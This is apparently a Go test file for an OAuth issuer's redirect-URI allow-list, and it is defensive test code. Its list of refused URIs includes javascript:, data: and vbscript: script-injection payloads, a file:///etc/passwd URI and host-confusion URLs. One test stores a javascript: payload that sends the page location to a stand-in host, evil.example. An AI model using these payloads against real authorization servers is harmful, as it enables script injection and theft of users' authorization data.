package web_test

import (
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"issuer/issuer"
	"issuer/issuer/oauth"
	"issuer/storage"
)

// Redirect URIs (RFC 6749 §3.1.2, RFC 8252 §7-§8, RFC 9700 §2.1): one
// allow-list for the admin API's registrations and the redirect_uris of
// wallet attestations, applied again before /authorize redirects.

// rdRefused are redirect URIs the allow-list refuses.
var rdRefused = []string{
	"javascript:alert(document.domain)",
	"JavaScript://wallet.example/%0aalert(1)",
	"data:text/html,<script>alert(1)</script>",
	"vbscript:msgbox(1)",
	"file:///etc/passwd",
	"myapp:/cb",                      // a private-use scheme that is no reverse domain name
	"com.example.:/cb",               // an empty label
	"http://wallet.example/cb",       // http off the loopback interface
	"http://localhost:8080/cb",       // RFC 8252 §8.3: NOT RECOMMENDED
	"http://127.0.0.1.evil.example/", // not the loopback address
	"https://user:pw@wallet.example/cb",
	"https://wallet.example@evil.example/cb",
	"https://wallet.example/cb#frag",
	"https://wallet.example/cb#",
	"https:wallet.example/cb", // no host
	"https:///cb",
	"/cb",
	"",
}

// rdAllowed are redirect URIs the allow-list accepts.
var rdAllowed = []string{
	"https://wallet.example/cb",
	"https://wallet.example:8443/cb?tenant=a",
	"http://127.0.0.1:51004/cb",
	"http://127.0.0.1/cb",
	"http://[::1]:51004/cb",
	"com.example.wallet:/oauth2redirect",
	"eu.europa.ec.eudi.wallet://authorize",
}

// TestAdminClientRedirectURIs: the admin API refuses every redirect URI
// outside the allow-list with 400 invalid_client_metadata naming the entry
// and the rule, and registers the allowed ones.
func TestAdminClientRedirectURIs(t *testing.T) {
	ts := newTestServer(t)
	for _, u := range rdRefused {
		t.Run("refused "+u, func(t *testing.T) {
			res := ts.admin(t, http.MethodPost, "/admin/clients", map[string]any{
				"token_endpoint_auth_method": "none", "redirect_uris": []string{"https://wallet.example/ok", u},
			})
			e := wantError(t, res, http.StatusBadRequest, "invalid_client_metadata")
			if !strings.HasPrefix(e.Description, "redirect_uris[1] ") {
				t.Errorf("error_description = %q; want it to name redirect_uris[1]", e.Description)
			}
		})
	}
	t.Run("allowed", func(t *testing.T) {
		m := ts.afCreateClient(t, map[string]any{"token_endpoint_auth_method": "none", "redirect_uris": rdAllowed})
		got, _ := m["redirect_uris"].([]any)
		if len(got) != len(rdAllowed) {
			t.Fatalf("redirect_uris = %v; want %v", got, rdAllowed)
		}
	})
	t.Run("the message says what is allowed", func(t *testing.T) {
		res := ts.admin(t, http.MethodPost, "/admin/clients", map[string]any{"redirect_uris": []string{"javascript:alert(1)"}})
		e := wantError(t, res, http.StatusBadRequest, "invalid_client_metadata")
		for _, want := range []string{"redirect_uris[0]", "https", "loopback", "private-use"} {
			if !strings.Contains(e.Description, want) {
				t.Errorf("error_description = %q; want it to mention %s", e.Description, want)
			}
		}
	})
}

// TestAttestationRedirectURIs: an attestation's redirect_uris pass the
// same allow-list: a listed javascript: or plain http URI is unusable at
// PAR, while the https one next to it still works.
func TestAttestationRedirectURIs(t *testing.T) {
	f := atSetup(t)
	ts := f.ts
	ts.afCreateUser(t, afUser, afPassword, nil)
	id := atWalletID()
	in := f.instance(t, id)
	in.Att = f.attest(t, id, in.Key, func(_, c map[string]any) {
		c["redirect_uris"] = []string{"javascript:alert(1)", "http://wallet.example/cb", afRedirect}
	})
	for _, u := range []string{"javascript:alert(1)", "http://wallet.example/cb"} {
		res := ts.afPush(t, afParams(id, newPKCE(t), url.Values{"redirect_uri": {u}}), in.headers(t))
		if e := wantError(t, res, http.StatusBadRequest, "invalid_request"); e.Description != "the redirect_uri is not registered for the client" {
			t.Errorf("PAR with redirect_uri %s: error_description = %q", u, e.Description)
		}
	}
	res := ts.afPush(t, afParams(id, newPKCE(t), nil), in.headers(t))
	if body := readBody(t, res); res.StatusCode != http.StatusCreated {
		t.Fatalf("PAR with the https redirect URI = %d %s; want 201", res.StatusCode, body)
	}
}

// TestStoredRedirectURIRefused: a client stored before the allow-list
// existed, with a javascript: redirect URI, cannot use it: PAR refuses it
// with OAuth JSON, and a plain authorization request gets an error page,
// never a Location with that scheme.
func TestStoredRedirectURIRefused(t *testing.T) {
	const evil = "javascript:fetch('//evil.example/'+location)"
	s := newAuthFlow(t, func(c *issuer.Config) { c.Authorization.RequirePAR = false })
	if err := s.Store.CreateClient(t.Context(), storage.Client{
		ID: "old", AuthMethod: oauth.AuthNone, GrantTypes: []string{oauth.GrantAuthorizationCode},
		RedirectURIs: []string{evil}, CreatedAt: time.Now(),
	}); err != nil {
		t.Fatal(err)
	}
	pk := newPKCE(t)
	t.Run("PAR", func(t *testing.T) {
		res := s.afPush(t, afParams("old", pk, url.Values{"redirect_uri": {evil}}), nil)
		wantError(t, res, http.StatusBadRequest, "invalid_request")
	})
	for _, tc := range []struct {
		name  string
		extra url.Values
		code  string // the error the page shows
	}{
		{"valid request", url.Values{}, "invalid_request"},
		{"error for the client", url.Values{"code_challenge_method": {"plain"}}, "invalid_request"},
		{"prompt none", url.Values{"prompt": {"none"}}, "invalid_request"},
		{"unsupported response type", url.Values{"response_type": {"token"}}, "unsupported_response_type"},
	} {
		t.Run("plain request, "+tc.name, func(t *testing.T) {
			tc.extra.Set("redirect_uri", evil)
			res := newBrowser(t).get(t, s.URL+"/authorize?"+afParams("old", pk, tc.extra).Encode())
			paWantPage(t, res, http.StatusBadRequest, tc.code)
		})
	}
}
